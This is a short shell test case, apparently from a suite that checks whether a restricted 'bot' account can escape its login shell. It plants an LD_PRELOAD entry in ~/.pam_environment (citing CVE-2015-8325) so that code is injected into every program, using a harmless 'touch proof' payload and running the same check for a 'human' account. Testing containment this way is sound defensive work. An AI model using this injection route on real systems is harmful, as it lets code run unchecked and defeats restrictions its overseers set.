# LD_PRELOAD: code in every program, the shell first.
PROMISE=P1
SOURCE="ways round a login shell; CVE-2015-8325"
NEEDS_RUN=no
before() {
    : >"$W/out/seen"
    printf 'touch %s/work/proof\n' "$WHO_HOME" >"$WHO_HOME/work/code"
    chown "$WHO" "$WHO_HOME/work/code"
    echo 'LD_PRELOAD DEFAULT=@/code' | sed "s,@,$WHO_HOME/work," >"$WHO_HOME/.pam_environment"
}
after() { rm -f "$WHO_HOME/.pam_environment"; }
attack() { :; }
launch() {
    be bot
    bot 'bash -c /bin/true; true' >"$W/out/seen" 2>&1
}
success() { [ -e "$WHO_HOME/work/proof" ] || grep -q 'cannot be preloaded' "$W/out/seen"; }
twin() {
    be human
    human 'bash -c /bin/true; true' >"$W/out/seen" 2>&1
    success || skip 'pam_env reads no ~/.pam_environment here'
}
